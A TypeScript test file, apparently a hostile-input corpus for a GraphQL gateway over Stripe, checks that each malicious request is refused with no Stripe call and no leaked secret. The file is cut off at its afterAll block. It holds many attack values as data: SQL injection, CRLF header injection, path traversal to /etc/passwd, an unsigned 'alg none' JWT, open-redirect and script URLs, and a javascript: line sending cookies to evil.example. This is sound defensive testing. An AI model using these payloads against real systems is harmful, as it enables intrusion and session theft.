/**
 * The hostile-input corpus (issue 5): documents, variable sets and raw requests that a stranger on the internet can
 * send, each with the coded error it must get — and, for every one of them, no Stripe call (counted in the local
 * Stripe's request log) and no secret in the response (the admin key, the JWT secret, the Stripe key, the caller's
 * own token).
 *
 * Every entry goes over real HTTP (`node:http` on port 0, the Yoga instance as its listener), so that what is hostile
 * about the request itself — its body, its size, its content type, its method — meets the same stack a client meets.
 * Profiles of the same gateway, over the same local Stripe:
 * - `test`: the defaults `createGateway` applies (limits on, CSRF prevention on, introspection on, ad-hoc documents);
 * - `production`: introspection off, trusted documents enforced for customers, suggestions hidden;
 * - `exhausted`: the test profile, with the admin's rate limit used up.
 * The gateways' structured logs are captured too: no secret may reach them either.
 */
import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as generated from '../../src/client/generated/graphql.js';
import { documentIdOf } from '../../src/client/index.js';
import { DEMO } from '../../src/local-stripe/index.js';
import { createLogger } from '../../src/observability/log.js';
import { RateLimiter } from '../../src/http/rate-limit.js';
import { createGateway, type Gateway } from '../../src/http/server.js';
import { ADMIN_KEY, JWT_SECRET, RETURN_ORIGIN, signCustomerToken, startGateway, type GatewayHarness } from '../support/gateway.js';

/** The corpus may not shrink below this (issue 5: "at least 60 documents and variable sets"). */
const MINIMUM_CORPUS_SIZE = 60;

/** `exhausted`: the test profile with a rate limit the admin has already used up (a frozen clock: it never refills). */
type Profile = 'test' | 'production' | 'exhausted';
type Limit = 'depth' | 'aliases' | 'tokens' | 'directives' | 'cost' | 'body';
/**
 * Who sends it: the admin key (the default), the demo customer's token, nobody, a raw `Authorization` header, or a
 * token with these claims signed with the gateway's own secret (a valid signature over hostile claims).
 */
type Sender = 'admin' | 'customer' | 'anonymous' | { authorization: string } | { signedClaims: Record<string, unknown> };

interface Expectation {
  status: number;
  /** `extensions.code` of the refusal: every error carries it (but for those `alsoAllowed`). */
  code: string;
  /** `extensions.limit` of the refusal (abuse limits). */
  limit?: Limit;
  /** `extensions.field` of the first error (input checks that name the argument). */
  field?: string | RegExp;
  /** A `Retry-After` header (rate limiting). */
  retryAfter?: true;
  /**
   * Refused before execution: no `data` entry at all (the GraphQL-over-HTTP spec's "request error"). Otherwise the
   * operation ran and its refused fields are null: a `data` entry is allowed, holding nothing.
   */
  refused?: true;
  /** Further errors the same refusal may report beside `code` (validation reports every broken rule). */
  alsoAllowed?: ReadonlyArray<{ code: string; limit?: Limit }>;
  stripeCalls: 0;
}

interface Entry {
  name: string;
  /** Default `test`. */
  profile?: Profile;
  /** Default `admin`. */
  as?: Sender;
  /** Default POST. */
  method?: 'GET' | 'POST';
  /** The document (POST: JSON body member; GET: query parameter). */
  query?: string;
  variables?: unknown;
  /** Further JSON body members (POST) or query parameters (GET): `operationName`, `documentId`, `extensions`. */
  params?: Record<string, unknown>;
  /**
   * A raw body instead of the JSON one (the request itself is the hostile part); `chunks`: sent with
   * `transfer-encoding: chunked` and no content-length, on a connection of its own.
   */
  body?: string | { chunks: () => Iterable<string> };
  /** Headers over the defaults (`content-type: application/json`, `accept: application/graphql-response+json`); null removes one. */
  headers?: Record<string, string | null>;
  expect: Expectation;
}

const NONE = { stripeCalls: 0 } as const;
/** Marks a GET as not a plain cross-site link (one of the gateway's CSRF headers). */
const CSRF = { 'x-graphql-csrf': '1' };
const KB = 1024;

const SESSION = `mutation Session($input: CreatePortalSessionInput!) {
  createPortalSession(input: $input) { ... on CreatePortalSessionPayload { portalSession { id url returnUrl } } } }`;
const CUSTOMER_BY_ID = 'query Customer($id: ID!) { customer(id: $id) { id name email } }';

/** Expected answers, by kind. */
const badInput = (field: string | RegExp): Expectation => ({ status: 200, code: 'BAD_USER_INPUT', field, ...NONE });
const overLimit = (limit: Exclude<Limit, 'body'>): Expectation => ({ status: 400, code: 'BAD_USER_INPUT', limit, refused: true, ...NONE });
const invalid: Expectation = { status: 400, code: 'GRAPHQL_VALIDATION_FAILED', refused: true, ...NONE };
const badRequest: Expectation = { status: 400, code: 'BAD_USER_INPUT', refused: true, ...NONE };
const tooLarge: Expectation = { status: 413, code: 'BAD_USER_INPUT', limit: 'body', refused: true, ...NONE };
const csrf: Expectation = { status: 403, code: 'FORBIDDEN', refused: true, ...NONE };
const unauthenticated: Expectation = { status: 401, code: 'UNAUTHENTICATED', ...NONE };

/** `{ f { f { … leaf … } } }`-style nesting, `levels` connection hops deep, each hop `first: 1` (cheap, only deep). */
function deepInvoices(levels: number): string {
  let selection = 'id';
  for (let i = 0; i < levels; i++) selection = `invoices(first: 1) { edges { node { customer { ${selection} } } } }`;
  return `{ customer(id: "${DEMO.customer}") { ${selection} } }`;
}

/** A valid request padded to 256 KB, in 16 KB chunks. */
function* chunkedBody(): Iterable<string> {
  yield '{"query": "{ viewer { role } }", "pad": "';
  for (let i = 0; i < 16; i++) yield ' '.repeat(16 * KB);
  yield '"}';
}

const ids = (n: number, make: (i: number) => string) => Array.from({ length: n }, (_, i) => make(i)).join(' ');

/** Strings that try to be more than a customer id: each is refused before any call. */
const HOSTILE_CUSTOMER_IDS: Array<[string, string]> = [
  ['SQL injection', "cus_1' OR '1'='1"],
  ['SQL comment and stacked query', 'cus_1; DROP TABLE customers; --'],
  ['a NoSQL operator as text', '{"$ne": null}'],
  ['Stripe search-language widening', "cus_x' OR email:'victim@example.com"],
  ['path traversal to another resource', 'cus_../../v1/charges'],
  ['percent-encoded path traversal', 'cus_%2e%2e%2f%2e%2e%2fv1%2fcharges'],
  ['a smuggled query string', 'cus_x?expand[]=customer'],
  ['a smuggled form parameter', 'cus_x&limit=100'],
  ['a fragment', `${DEMO.customer}#x`],
  ['CRLF header injection', `${DEMO.customer}\r\nStripe-Account: acct_1Evil`],
  ['a null byte', `${DEMO.customer}\u0000`],
  ['a trailing newline', `${DEMO.customer}\n`],
  ['Greek look-alike letters', 'cus_ΗΙ4eggv5wQw860'],
  ['fullwidth letters', 'ｃｕｓ_HI4eggv5wQw860'],
  ['a zero-width space', `${DEMO.customer}\u200b`],
  ['a right-to-left override', 'cus_\u202e068wQw5vgge4IH'],
  ['the empty string', ''],
  ['the prefix alone', 'cus_'],
  ['an upper-case prefix', 'CUS_HI4eggv5wQw860'],
  // Stripe's ids are at most 255 characters (the gateway's cursors are held to that too).
  ['5,000 characters of a valid shape', `cus_${'A'.repeat(5_000)}`],
  ['60,000 characters of a valid shape (under the body limit)', `cus_${'A'.repeat(60_000)}`],
];

const CORPUS: Entry[] = [
  // ---------------------------------------------------------------------------------------------------------------
  // Abuse limits: refused before execution, HTTP 400, no data.
  { name: 'depth bomb: selections nested 14 deep', query: deepInvoices(3), expect: overLimit('depth') },
  {
    name: 'depth bomb hidden in fragments',
    query: `{ customer(id: "${DEMO.customer}") { ...A } }
      fragment A on Customer { invoices(first: 1) { edges { node { ...B } } } }
      fragment B on Invoice { customer { invoices(first: 1) { edges { node { customer { id } } } } } }`,
    expect: overLimit('depth'),
  },
  {
    name: 'depth bomb through inline fragments on node',
    query: `{ node(id: "${DEMO.customer}") { ... on Customer { invoices(first: 1) { edges { node { ... on Invoice { customer { ... on Customer { invoices(first: 1) { edges { node { id } } } } } } } } } } } }`,
    expect: overLimit('depth'),
  },
  {
    name: 'depth 7 (one over the limit)',
    query: `{ invoice(id: "in_1") { customer { invoices(first: 1) { edges { node { customer { id } } } } } } }`,
    expect: overLimit('depth'),
  },
  {
    name: 'alias bomb: 16 aliased customer lookups',
    query: `{ ${ids(16, (i) => `a${i}: customer(id: "${DEMO.customer}") { name }`)} }`,
    expect: overLimit('aliases'),
  },
  { name: 'alias bomb: 100 aliased viewers', query: `{ ${ids(100, (i) => `a${i}: viewer { role }`)} }`, expect: overLimit('aliases') },
  {
    name: 'alias bomb spread over fragments',
    query: `{ ...A ...B } fragment A on Query { ${ids(8, (i) => `a${i}: viewer { role }`)} } fragment B on Query { ${ids(8, (i) => `b${i}: viewer { role }`)} }`,
    expect: overLimit('aliases'),
  },
  { name: 'directive flood: 51 @include', query: `{ viewer { ${ids(51, () => 'role @include(if: true)')} } }`, expect: overLimit('directives') },
  {
    name: 'directive flood on fragment spreads',
    query: `{ viewer { ${ids(60, () => '...R @skip(if: false)')} } } fragment R on Viewer { role }`,
    expect: overLimit('directives'),
  },
  { name: 'token flood: 1,100 repeated fields', query: `{ viewer { ${'role '.repeat(1_100)}} }`, expect: overLimit('tokens') },
  {
    name: 'token flood in variable definitions',
    query: `query Flood(${ids(260, (i) => `$v${i}: ID`)}) { viewer { role } }`,
    expect: overLimit('tokens'),
  },
  {
    name: 'token flood in a list literal',
    query: `{ customer(id: [${'"x" '.repeat(1_200)}]) { id } }`,
    expect: overLimit('tokens'),
  },
  {
    name: 'cost bomb: 100 customers × 100 invoices each',
    query: `{ customers(first: 100) { edges { node { invoices(first: 100) { edges { cursor } } } } } }`,
    expect: overLimit('cost'),
  },
  {
    name: 'cost bomb hidden in variables',
    query: `query Cost($n: Int) { customers(first: $n) { edges { node { invoices(first: $n) { edges { cursor } } } } } }`,
    variables: { n: 100 },
    expect: overLimit('cost'),
  },
  {
    name: 'cost bomb through last/before',
    query: `{ invoices(last: 100, before: "in_1") { edges { node { lines(last: 100, before: "il_1") { edges { cursor } } } } } }`,
    expect: overLimit('cost'),
  },
  {
    name: 'cost bomb from 15 aliases, each under the limit alone',
    query: `{ ${ids(15, (i) => `a${i}: customers(first: 20) { edges { node { invoices(first: 20) { edges { cursor } } } } }`)} }`,
    expect: overLimit('cost'),
  },
  {
    name: 'oversize first on a trusted document (customer, production)',
    profile: 'production',
    as: 'customer',
    params: { documentId: documentIdOf(generated.InvoicesWithCustomersDocument) },
    variables: { first: 1_000_000 },
    expect: overLimit('cost'),
  },

  // ---------------------------------------------------------------------------------------------------------------
  // Fragment cycles and other invalid documents: GRAPHQL_VALIDATION_FAILED, HTTP 400, no data.
  {
    name: 'fragment cycle of two',
    query: `{ viewer { ...A } } fragment A on Viewer { ...B } fragment B on Viewer { ...A }`,
    expect: invalid,
  },
  { name: 'fragment spreading itself', query: `{ viewer { ...A } } fragment A on Viewer { role ...A }`, expect: invalid },
  {
    name: 'fragment cycle through fields (an infinitely deep document)',
    query: `{ customer(id: "${DEMO.customer}") { ...C } }
      fragment C on Customer { invoices(first: 1) { edges { node { ...I } } } }
      fragment I on Invoice { customer { ...C } }`,
    // Unrolled, the cycle is also too deep: the depth rule may say so beside the cycle.
    expect: { ...invalid, alsoAllowed: [{ code: 'BAD_USER_INPUT', limit: 'depth' }] },
  },
  {
    name: 'deeply nested list literal for an ID',
    query: `{ customer(id: ${'['.repeat(200)}"x"${']'.repeat(200)}) { id } }`,
    expect: invalid,
  },
  { name: 'an unknown field', query: `{ viewer { role } secrets }`, expect: invalid },
  {
    name: 'introspection in production (admin)',
    profile: 'production',
    query: '{ __schema { types { name fields { name } } } }',
    expect: invalid,
  },
  {
    name: 'introspection hidden in a fragment in production (admin)',
    profile: 'production',
    query: '{ ...F } fragment F on Query { __type(name: "Customer") { fields { name } } }',
    expect: invalid,
  },
  {
    name: 'a misspelt field in production: refused without suggestions',
    profile: 'production',
    query: `{ custmer(id: "${DEMO.customer}") { nme } }`,
    expect: invalid,
  },

  // ---------------------------------------------------------------------------------------------------------------
  // The request itself.
  { name: 'malformed JSON', body: '{"query": "{ viewer { role } }"', expect: badRequest },
  { name: 'JSON with trailing garbage', body: '{"query": "{ viewer { role } }"} {"query": "{ viewer { role } }"}', expect: badRequest },
  { name: 'an empty body', body: '', expect: badRequest },
  { name: 'a JSON null body', body: 'null', expect: badRequest },
  { name: 'a JSON string body', body: JSON.stringify('{ viewer { role } }'), expect: badRequest },
  { name: '`query` a number', body: JSON.stringify({ query: 42 }), expect: badRequest },
  { name: '`query` an object', body: JSON.stringify({ query: { $where: 'this.admin == true' } }), expect: badRequest },
  { name: '`query` an array', body: JSON.stringify({ query: ['{ viewer { role } }'] }), expect: badRequest },
  { name: 'no `query` at all', body: JSON.stringify({ qeury: '{ viewer { role } }' }), expect: badRequest },
  { name: '`variables` a string', query: CUSTOMER_BY_ID, variables: `{"id": "${DEMO.customer}"}`, expect: badRequest },
  { name: '`extensions` an array', query: '{ viewer { role } }', params: { extensions: ['persistedQuery'] }, expect: badRequest },
  {
    name: 'an unknown operationName',
    query: '{ viewer { role } }',
    params: { operationName: "x' OR '1'='1" },
    expect: badRequest,
  },
  {
    name: 'batching: an array of two operations',
    body: JSON.stringify([{ query: '{ viewer { role } }' }, { query: `{ customer(id: "${DEMO.customer}") { name } }` }]),
    expect: badRequest,
  },
  {
    name: 'batching: an array of 500 lookups',
    body: JSON.stringify(Array.from({ length: 500 }, () => ({ query: `{ customer(id: "${DEMO.customer}") { name } }` }))),
    expect: badRequest,
  },
  {
    name: 'a mutation over GET',
    method: 'GET',
    query: `mutation { createPortalSession(input: { customerId: "${DEMO.customer}" }) { __typename } }`,
    headers: CSRF,
    expect: { status: 405, code: 'BAD_USER_INPUT', refused: true, ...NONE },
  },
  {
    name: 'a mutation over GET chosen by operationName',
    method: 'GET',
    query: `query Q { viewer { role } } mutation M { createPortalSession(input: { customerId: "${DEMO.customer}" }) { __typename } }`,
    params: { operationName: 'M' },
    headers: CSRF,
    expect: { status: 405, code: 'BAD_USER_INPUT', refused: true, ...NONE },
  },
  {
    name: 'CSRF: a GET without a non-simple header',
    method: 'GET',
    query: `{ customer(id: "${DEMO.customer}") { name email } }`,
    expect: csrf,
  },
  {
    name: 'CSRF: a form-encoded POST',
    body: `query=${encodeURIComponent(`{ customer(id: "${DEMO.customer}") { name email } }`)}`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    expect: csrf,
  },
  {
    name: 'CSRF: a text/plain POST carrying JSON',
    body: JSON.stringify({ query: `{ customer(id: "${DEMO.customer}") { name email } }` }),
    headers: { 'content-type': 'text/plain' },
    expect: csrf,
  },
  {
    name: 'CSRF: a multipart/form-data POST',
    body: `--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${JSON.stringify({ query: '{ viewer { role } }' })}\r\n--x--\r\n`,
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    expect: csrf,
  },
  {
    name: 'CSRF: a POST with no content type (the browser sends text/plain)',
    body: JSON.stringify({ query: '{ viewer { role } }' }),
    headers: { 'content-type': null },
    expect: csrf,
  },
  {
    name: 'body over 100 KB: a 1 MB id',
    query: CUSTOMER_BY_ID,
    variables: { id: `cus_${'A'.repeat(1024 * KB)}` },
    expect: tooLarge,
  },
  {
    name: 'body over 100 KB: a 100 KB returnUrl',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, returnUrl: `${RETURN_ORIGIN}/${'a'.repeat(100 * KB)}` } },
    expect: tooLarge,
  },
  {
    name: 'body over 100 KB: a valid document padded with 200 KB of whitespace',
    body: JSON.stringify({ query: `{ viewer { role } ${' '.repeat(200 * KB)}}` }),
    expect: tooLarge,
  },
  {
    name: 'body over 100 KB: chunked, without a content-length',
    body: { chunks: chunkedBody },
    expect: tooLarge,
  },

  // ---------------------------------------------------------------------------------------------------------------
  // Variables of the wrong type: refused while coercing, HTTP 400, no data.
  { name: 'a NoSQL operator object as an ID', query: CUSTOMER_BY_ID, variables: { id: { $ne: null } }, expect: badRequest },
  { name: 'an array as an ID', query: CUSTOMER_BY_ID, variables: { id: [DEMO.customer, DEMO.businessCustomer] }, expect: badRequest },
  {
    name: 'a 200-deep nested list as an ID',
    query: CUSTOMER_BY_ID,
    variables: { id: JSON.parse(`${'['.repeat(200)}"x"${']'.repeat(200)}`) as unknown },
    expect: badRequest,
  },
  { name: 'a required ID as null', query: CUSTOMER_BY_ID, variables: { id: null }, expect: badRequest },
  {
    name: 'a string as first',
    query: 'query($n: Int) { customers(first: $n) { edges { cursor } } }',
    variables: { n: '10; DROP TABLE' },
    expect: badRequest,
  },
  {
    name: 'first beyond a 32-bit Int',
    query: 'query($n: Int) { customers(first: $n) { edges { cursor } } }',
    variables: { n: 2 ** 40 },
    expect: badRequest,
  },
  {
    name: 'an injected enum value',
    query: 'query($s: InvoiceStatus) { invoices(status: $s) { edges { cursor } } }',
    variables: { s: "PAID' OR status:'draft" },
    expect: badRequest,
  },
  {
    name: 'a DateTime with an injection',
    query: 'query($t: DateTime) { invoices(createdAfter: $t) { edges { cursor } } }',
    variables: { t: "2026-01-01T00:00:00Z' OR created>0" },
    expect: badRequest,
  },
  {
    name: 'an injected portal locale',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, locale: 'en&locale=xx' } },
    expect: badRequest,
  },
  {
    name: 'an unknown input field (mass assignment)',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, customer: DEMO.businessCustomer, livemode: true } },
    expect: badRequest,
  },

  {
    name: 'a misspelt enum value in production: refused without suggestions',
    profile: 'production',
    query: 'query($s: InvoiceStatus) { invoices(status: $s) { edges { cursor } } }',
    variables: { s: 'PAD' },
    expect: badRequest,
  },
  {
    name: 'a misspelt input field in production: refused without suggestions',
    profile: 'production',
    query: SESSION,
    variables: { input: { customerID: DEMO.customer } },
    expect: badRequest,
  },

  // ---------------------------------------------------------------------------------------------------------------
  // Invalid ids of every kind, in every id argument: BAD_USER_INPUT naming the argument.
  ...HOSTILE_CUSTOMER_IDS.map(([what, id]): Entry => ({
    name: `customer(id): ${what}`,
    query: CUSTOMER_BY_ID,
    variables: { id },
    expect: badInput('id'),
  })),
  {
    name: 'customer(id): an injection written into the document',
    query: `{ customer(id: ${JSON.stringify("cus_x' OR 1=1 --")}) { name } }`,
    expect: badInput('id'),
  },
  { name: 'invoice(id): a smuggled expand', query: 'query($id: ID!) { invoice(id: $id) { number } }', variables: { id: 'in_x?expand[]=customer' }, expect: badInput('id') },
  { name: 'invoice(id): path traversal', query: 'query($id: ID!) { invoice(id: $id) { number } }', variables: { id: 'in_x/../../customers' }, expect: badInput('id') },
  { name: 'node(id): path traversal', query: 'query($id: ID!) { node(id: $id) { id } }', variables: { id: 'cus_../../v1/charges' }, expect: badInput('id') },
  { name: 'node(id): an account id', query: 'query($id: ID!) { node(id: $id) { id } }', variables: { id: 'acct_1Evil' }, expect: badInput('id') },
  {
    name: 'portalConfiguration(id): traversal to customers',
    query: 'query($id: ID!) { portalConfiguration(id: $id) { active } }',
    variables: { id: 'bpc_x/../../../v1/customers' },
    expect: badInput('id'),
  },
  {
    name: 'invoices(customerId): a smuggled limit',
    query: 'query($c: ID) { invoices(customerId: $c) { edges { cursor } } }',
    variables: { c: `${DEMO.customer}&limit=100` },
    expect: badInput('customerId'),
  },
  {
    name: 'invoices(subscriptionId): SQL injection',
    query: 'query($s: ID) { invoices(subscriptionId: $s) { edges { cursor } } }',
    variables: { s: "sub_x' OR '1'='1" },
    expect: badInput('subscriptionId'),
  },

  // Cursors and page sizes.
  {
    name: 'after: a smuggled form parameter',
    query: 'query($c: String) { customers(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: 'cus_x&limit=100' },
    expect: badInput('after'),
  },
  {
    name: 'after: SQL injection',
    query: 'query($c: String) { customers(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: "cus_x' OR 1=1 --" },
    expect: badInput('after'),
  },
  {
    name: 'after: a null byte',
    query: 'query($c: String) { invoices(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: 'in_x\u0000' },
    expect: badInput('after'),
  },
  {
    name: 'before: a smuggled expand',
    query: 'query($c: String) { invoices(last: 5, before: $c) { edges { cursor } } }',
    variables: { c: 'in_x?expand[]=data.customer' },
    expect: badInput('before'),
  },
  {
    name: 'after: 10,000 characters',
    query: 'query($c: String) { invoices(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: `in_${'x'.repeat(10_000)}` },
    expect: badInput('after'),
  },
  { name: 'first: 101', query: '{ customers(first: 101) { edges { cursor } } }', expect: badInput('first') },
  { name: 'first: -1', query: '{ customers(first: -1) { edges { cursor } } }', expect: badInput('first') },
  { name: 'first: 0', query: '{ invoices(first: 0) { edges { cursor } } }', expect: badInput('first') },
  { name: 'last: 1,000', query: '{ invoices(last: 1000, before: "in_1") { edges { cursor } } }', expect: badInput('last') },

  // createPortalSession: every string of its input.
  { name: 'customerId: a smuggled second customer', query: SESSION, variables: { input: { customerId: `${DEMO.customer}&customer=${DEMO.businessCustomer}` } }, expect: badInput('customerId') },
  { name: 'configurationId: a smuggled expand', query: SESSION, variables: { input: { customerId: DEMO.customer, configurationId: 'bpc_x?expand[]=customer' } }, expect: badInput('configurationId') },
  { name: 'onBehalfOf: a smuggled account', query: SESSION, variables: { input: { customerId: DEMO.customer, onBehalfOf: 'acct_x&on_behalf_of=acct_y' } }, expect: badInput('onBehalfOf') },
  {
    name: 'flow subscriptionId: path traversal',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE', subscriptionUpdate: { subscriptionId: 'sub_x/../../v1/subscriptions' } } } },
    expect: badInput('flow.subscriptionUpdate.subscriptionId'),
  },
  {
    name: 'flow retentionCouponId: SQL injection',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_CANCEL', subscriptionCancel: { subscriptionId: DEMO.subscription, retentionCouponId: "X' OR '1'='1" } } } },
    expect: badInput('flow.subscriptionCancel.retentionCouponId'),
  },
  {
    name: 'flow item id: a smuggled quantity',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x&quantity=0' }] } } } },
    expect: badInput('flow.subscriptionUpdateConfirm.items.0.id'),
  },
  {
    name: 'flow item priceId: a smuggled quantity',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x', priceId: 'price_x&quantity=1000' }] } } } },
    expect: badInput('flow.subscriptionUpdateConfirm.items.0.priceId'),
  },
  {
    name: 'flow discount couponId: a smuggled promotion code',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x' }], discounts: [{ couponId: 'X&promotion_code=promo_1' }] } } } },
    expect: badInput(/^flow\.subscriptionUpdateConfirm\.discounts(\.0(\.couponId)?)?$/),
  },
  {
    name: 'flow discount promotionCodeId: a newline',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x' }], discounts: [{ promotionCodeId: 'promo_1\nX' }] } } } },
    expect: badInput(/^flow\.subscriptionUpdateConfirm\.discounts(\.0(\.promotionCodeId)?)?$/),
  },
  {
    name: 'flow redirectReturnUrl: javascript:',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'PAYMENT_METHOD_UPDATE', afterCompletion: { type: 'REDIRECT', redirectReturnUrl: 'javascript:fetch(`//evil.example?c=${document.cookie}`)' } } } },
    expect: badInput('flow.afterCompletion.redirectReturnUrl'),
  },

  // idempotencyKey abuse.
  ...(
    [
      ['256 characters', 'k'.repeat(256)],
      ['a control character', 'order\u000142'],
      ['DEL', 'order\u007f42'],
      ['a tab', 'order\t42'],
      ['CRLF header injection', 'order-42\r\nIdempotency-Key: someone-elses-key'],
      ['a null byte', 'order-42\u0000'],
      ['non-ASCII look-alikes', 'оrdеr-42'],
    ] as const
  ).map(([what, idempotencyKey]): Entry => ({
    name: `idempotencyKey: ${what}`,
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, idempotencyKey } },
    expect: badInput('idempotencyKey'),
  })),

  // returnUrl tricks: no open redirect.
  ...(
    [
      ['userinfo before the real host', 'https://app.example.com@evil.example/billing'],
      ['userinfo with a port-like password', 'https://app.example.com:443@evil.example/'],
      ['credentials on the allowed host', 'https://admin:hunter2@app.example.com/billing'],
      ['a backslash before userinfo', 'https://evil.example\\@app.example.com/'],
      ['javascript:', 'javascript:alert(document.domain)'],
      ['JavaScript: in mixed case with whitespace', ' JaVaScRiPt:alert(1)'],
      ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
      ['protocol-relative', '//evil.example/billing'],
      ['a look-alike subdomain', 'https://app.example.com.evil.example/'],
      ['an IDN look-alike (Cyrillic а)', 'https://аpp.example.com/billing'],
      ['a punycode look-alike', 'https://xn--pp-8cd.example.com/billing'],
      ['another port', 'https://app.example.com:8443/billing'],
      ['another scheme', 'http://app.example.com/billing'],
      ['a newline splitting the host', 'https://app.example.com\n@evil.example/'],
      ['an encoded slash before @', 'https://app.example.com%2f@evil.example/'],
    ] as const
  ).map(([what, returnUrl]): Entry => ({
    name: `returnUrl: ${what}`,
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, returnUrl } },
    expect: badInput('returnUrl'),
  })),

  // ---------------------------------------------------------------------------------------------------------------
  // Callers.
  {
    name: 'a caller over its rate limit',
    profile: 'exhausted',
    query: `{ customers(first: 100) { edges { node { email } } } }`,
    expect: { status: 429, code: 'RATE_LIMITED', retryAfter: true, refused: true, ...NONE },
  },
  { name: 'anonymous: the admin-only customer list', as: 'anonymous', query: '{ customers(first: 100) { edges { node { email } } } }', expect: unauthenticated },
  { name: 'an Authorization header with SQL injection', as: { authorization: "Bearer ' OR '1'='1" }, query: `{ customer(id: "${DEMO.customer}") { name } }`, expect: unauthenticated },
  { name: 'an 8 KB bearer token', as: { authorization: `Bearer ${'A'.repeat(8 * KB)}` }, query: '{ viewer { role } }', expect: unauthenticated },
  {
    name: 'a token with alg "none"',
    as: { authorization: `Bearer ${unsignedToken({ stripe_customer_id: DEMO.customer, exp: Math.floor(Date.now() / 1000) + 600 })}` },
    query: '{ viewer { customer { name email } } }',
    expect: unauthenticated,
  },
  {
    name: 'a correctly signed token whose customer claim is a path traversal',
    as: { signedClaims: { stripe_customer_id: 'cus_../../v1/charges' } },
    query: '{ viewer { customer { name email } } }',
    expect: unauthenticated,
  },
  {
    name: 'customer: the admin-only list with an injected email filter',
    as: 'customer',
    query: `query($e: String) { customers(first: 100, email: $e) { edges { node { email } } } }`,
    variables: { e: "' OR 1=1 --" },
    expect: { status: 200, code: 'FORBIDDEN', ...NONE },
  },
  {
    name: 'customer: another customer’s invoices with an injected filter',
    as: 'customer',
    query: 'query($c: ID) { invoices(customerId: $c) { edges { node { number } } } }',
    variables: { c: `${DEMO.businessCustomer}' OR customer:'${DEMO.customer}` },
    expect: { status: 200, code: 'FORBIDDEN', ...NONE },
  },
  {
    name: 'customer: a portal session for its own id plus a null byte',
    as: 'customer',
    query: SESSION,
    variables: { input: { customerId: `${DEMO.customer}\u0000` } },
    expect: { status: 200, code: 'FORBIDDEN', ...NONE },
  },
  {
    name: 'customer: an ad-hoc document in production',
    profile: 'production',
    as: 'customer',
    query: `{ customer(id: "${DEMO.businessCustomer}") { name email } }`,
    expect: { status: 403, code: 'FORBIDDEN', refused: true, ...NONE },
  },
  {
    name: 'customer: a trusted document id with path traversal in production',
    profile: 'production',
    as: 'customer',
    params: { documentId: 'sha256:../../../etc/passwd' },
    expect: { status: 404, code: 'NOT_FOUND', refused: true, ...NONE },
  },
  {
    name: 'customer: a trusted document id and a document together',
    profile: 'production',
    as: 'customer',
    query: `{ customer(id: "${DEMO.businessCustomer}") { name } }`,
    params: { documentId: documentIdOf(generated.ViewerDocument) },
    expect: { status: 400, code: 'BAD_USER_INPUT', refused: true, ...NONE },
  },
  {
    name: 'customer: a trusted document with an injected cursor',
    profile: 'production',
    as: 'customer',
    params: { documentId: documentIdOf(generated.InvoicesWithCustomersDocument) },
    variables: { first: 5, after: 'in_x&limit=100' },
    expect: badInput('after'),
  },
];

/** A JWT with `alg: none` and no signature. */
function unsignedToken(claims: Record<string, unknown>): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${part({ alg: 'none', typ: 'JWT' })}.${part(claims)}.`;
}

// ---------------------------------------------------------------------------------------------------------------
// Running an entry.

let h: GatewayHarness;
let customerToken: string;
const servers = new Map<Profile, { url: string; server: Server }>();
/** Every line the gateways logged, in order. */
const logged: string[] = [];

function listen(yoga: Gateway): Promise<{ url: string; server: Server }> {
  const server = createServer(yoga);
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }));
  });
}

beforeAll(async () => {
  h = await startGateway();
  customerToken = await signCustomerToken(DEMO.customer);
  // As `startApp` builds it: the configured secrets are redacted by value, tokens and keys by pattern.
  const logger = createLogger({ level: 'info', sink: (line) => logged.push(line), secrets: [ADMIN_KEY, JWT_SECRET, h.local.secretKey] });
  servers.set('test', await listen(createGateway({ graphiql: false, corsOrigins: [], logger }, h.deps)));
  servers.set(
    'production',
    await listen(
      createGateway({ graphiql: false, introspection: false, trustedDocuments: true, hideSuggestions: true, corsOrigins: [], logger }, h.deps),
    ),
  );
  const frozen = Date.now();
  const exhausted = await listen(
    createGateway({ graphiql: false, corsOrigins: [], logger, rateLimiter: new RateLimiter({ perMinute: 1, now: () => frozen }) }, h.deps),
  );
  servers.set('exhausted', exhausted);
  // The admin's one request of the minute.
  const first = await fetch(`${exhausted.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${ADMIN_KEY}` },
    body: JSON.stringify({ query: '{ viewer { role } }' }),
  });
  expect(first.status).toBe(200);
});

afterAll(async () => {
